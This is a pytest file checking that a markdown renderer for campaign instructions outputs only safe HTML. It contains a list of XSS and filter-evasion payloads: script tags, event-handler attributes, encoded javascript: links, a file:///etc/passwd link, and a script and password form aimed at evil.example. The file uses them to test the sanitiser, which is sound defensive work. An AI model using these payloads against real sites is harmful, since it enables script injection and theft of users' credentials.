"""Markdown of campaign admins: what it renders, and what can never come out of it."""

from html.parser import HTMLParser

import pytest

from annotation.judging import instructions
from annotation.judging.instructions import TAGS, to_html

# Forms of the attacks in OWASP's filter evasion cheat sheet and in CommonMark's own syntax.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/campaigns/)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://ok.example/"onclick=alert(1)//>',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](x)',
    "![<img src=x onerror=alert(1)>](x)",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
]
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}


class Elements(HTMLParser):
    """The elements that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("# Read\n\n## first", "<h3>Read</h3>\n<h4>first</h4>\n"),
        ("### Read\n\n#### first", "<h3>Read</h3>\n<h4>first</h4>\n"),
        ("Heading\n=======", "<h3>Heading</h3>\n"),
        ("## top\n\n###### deep", "<h3>top</h3>\n<h6>deep</h6>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>\n"),
        ("请给灰色文本打分", "<p>请给灰色文本打分</p>\n"),
        (
            "[guide](https://example.org/a?b=1&c=2)",
            '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow">'
            "guide</a></p>\n",
        ),
    ],
)
def test_what_people_write_is_rendered(source: str, expected: str) -> None:
    assert to_html(source) == expected


def test_tables_are_rendered() -> None:
    html = to_html("| score | meaning |\n|---:|:---|\n| 0 | none |")
    tags = [tag for tag, _ in Elements(html).found]
    assert tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]
    assert "style" not in html


def test_a_picture_becomes_its_description() -> None:
    assert to_html("![a scale](https://example.org/scale.png)") == "<p>a scale</p>\n"


@pytest.mark.parametrize("blank", ["", "  ", "\n\n"])
def test_nothing_is_nothing(blank: str) -> None:
    assert to_html(blank) == ""


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_comes_out(attack: str) -> None:
    for source in (attack, f"Rate **this**.\n\n{attack}\n\nThen go on.", f"> - {attack}"):
        for tag, attributes in Elements(to_html(source)).found:
            assert tag in TAGS, (tag, source)
            assert set(attributes) <= ATTRIBUTES.get(tag, set()), (attributes, source)
            if tag == "a" and "href" in attributes:
                assert str(attributes["href"]).startswith(("https://", "http://"))
                assert attributes["rel"] == "noopener nofollow"


def test_the_sanitiser_holds_without_the_parser() -> None:
    """The second fence alone: were HTML ever let through, it would still do nothing."""
    raw = '<p onclick="x" style="x">a<script>alert(1)</script><img src=x onerror=x></p>'
    assert instructions._clean(raw) == "<p>a</p>"
    assert instructions._clean('<a href="javascript:x">a</a>') == '<a rel="noopener nofollow">a</a>'


def test_a_text_is_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    clean = instructions._clean

    def counted(html: str) -> str:
        calls.append(html)
        return clean(html)

    monkeypatch.setattr(instructions, "_clean", counted)
    assert to_html("*once*") == to_html("*once*")
    assert len(calls) == 1
    assert to_html("*twice*") != to_html("*once*")
    assert len(calls) == 2
